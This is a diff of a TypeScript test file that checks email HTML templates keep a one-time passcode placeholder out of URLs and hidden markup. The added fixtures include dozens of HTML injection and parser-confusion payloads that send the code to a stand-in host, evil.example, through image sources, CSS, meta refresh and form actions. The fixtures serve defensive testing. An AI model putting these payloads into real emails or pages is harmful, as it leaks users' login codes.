@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'bun:test'
+import { textBeforeCode } from '../../src/adapters/email/code-in-html.ts'
 import type { DeclaredVariable } from '../../src/domain/messages/brand-texts.ts'
 import {
   declarationProblems,
@@ -40,7 +41,7 @@ describe('a text is stored (design D47)', () => {
     ['of a mail with HTML', mail({ subject: '{{minutes}}', html: `<b>{{otp}}</b>${'x'.repeat(19_986)}` })],
   ]
   test.each(valid)('%s', (_, fields) => {
-    expect(textProblems(fields, declared)).toEqual([])
+    expect(textProblems(fields, declared, textBeforeCode)).toEqual([])
   })
 })
 
@@ -81,7 +82,73 @@ describe('a text is rejected (design D47)', () => {
     ['of a mail with long HTML', mail({ html: `{{otp}}${'x'.repeat(20_000)}` }), 'at most 20000 characters'],
   ]
   test.each(invalid)('%s', (_, fields, problem) => {
-    expect(textProblems(fields, declared).join('\n')).toContain(problem)
+    expect(textProblems(fields, declared, textBeforeCode).join('\n')).toContain(problem)
+  })
+})
+
+/** Each loads nothing with the code in its URL. */
+const safeHtml = [
+  '<!doctype html><html><head><title>Code</title><style><!-- a{b:c} --></style></head><body><p title="{{businessName}}">{{otp}}</p></body></html>',
+  '<script type="application/ld+json">{"a":1}</script><a href="https://acme.example">Acme</a> #{{otp}}',
+  '<!--[if mso]><table><tr><td><![endif]--><p>{{otp}}</p><!--[if mso]></td></tr></table><![endif]-->',
+  '<!--[if !mso]><!--><p>{{otp}}</p><!--<![endif]-->',
+  '<!--[if (gte mso 9)|(IE)]><table><![endif]-->{{otp}}<!--[if (gte mso 9)|(IE)]></table><![endif]-->',
+  '<!-- note --><img src="https://acme.example/logo.png" alt="a > b">Visit https://acme.example/ {{otp}}',
+]
+
+const evil = 'https://evil.example/?c='
+const unsafeHtml = [
+  `<img src="${evil}{{otp}}">`,
+  `<img src=${evil}{{otp}}>`,
+  `<IMG SRC='${evil}{{otp}}'>`,
+  `<img src="${evil}{{otp}}`,
+  `<p>{{otp}}</p><img src="`,
+  '<b title="{{otp}}">x</b>',
+  '<b {{otp}}>x</b>',
+  '<p>x</p {{otp}}>',
+  `<style>a{background:url(${evil}{{otp}})}</style>`,
+  '<script>f("{{otp}}")</script>',
+  '<title>{{otp}}</title>',
+  '<!-- {{otp}} -->',
+  '<?xml {{otp}} ?>',
+  '<![CDATA[ {{otp}} ]]>',
+  `<!--><img src="${evil} -->{{otp}}">`,
+  `<!---><img src="${evil} -->{{otp}}">`,
+  `<!-- --!><img src="${evil} -->{{otp}}">`,
+  `<title><img src="${evil}</title>{{otp}}">`,
+  `<svg><style><img src="${evil}</style>{{otp}}">`,
+  '<svg><text>{{otp}}</text></svg>',
+  `<math><mtext><![CDATA[<img src="]]>{{otp}}">`,
+  `<noscript><!--</noscript><img src="${evil}-->{{otp}}">`,
+  '<template>{{otp}}</template>',
+  `<form action="${evil}"><textarea name="c">{{otp}}</textarea></form>`,
+  `<select><option>{{otp}}</option></select>`,
+  '<iframe srcdoc="{{otp}}"></iframe>',
+  `<xmp><a href="</xmp>{{otp}}">`,
+  '<plaintext>{{otp}}',
+  `<meta http-equiv="refresh" content="0;url=${evil}{{otp}}">`,
+  '<!--[if mso]>{{otp}}<![endif]-->',
+  `<!--[if mso]><img src="${evil}<![endif]-->{{otp}}<!--[if mso]>"><![endif]-->`,
+  `<img alt="<!--[if !mso]><!-->"><!--<![endif]-->" src="${evil}{{otp}}">`,
+  `<!--[if mso]><b title="--><img src='${evil}"><![endif]-->{{otp}}'>`,
+  `<!-- [ if mso ]><img src="${evil}<![endif]-->{{otp}}">`,
+  `<p>Open ${evil}{{otp}}</p>`,
+  '<p>www.evil.example/{{otp}}</p>',
+  '<p>evil.example?{{otp}}</p>',
+]
+
+describe('the HTML of a mail (design D47)', () => {
+  test.each(safeHtml)('may be %s', (html) => {
+    expect(textProblems(mail({ html }), [], textBeforeCode)).toEqual([])
+  })
+
+  test.each(unsafeHtml)('must not be %s', (html) => {
+    expect(textProblems(mail({ html }), [], textBeforeCode).join()).toContain('in displayed text')
+  })
+
+  test('must not have a placeholder that is split over tags, or has spaces', () => {
+    for (const html of ['<p>{{o<b></b>tp}}</p>{{otp}}', '{{ otp }}{{otp}}'])
+      expect(textProblems(mail({ html }), [], textBeforeCode).join()).toContain('outside a placeholder')
   })
 })
 
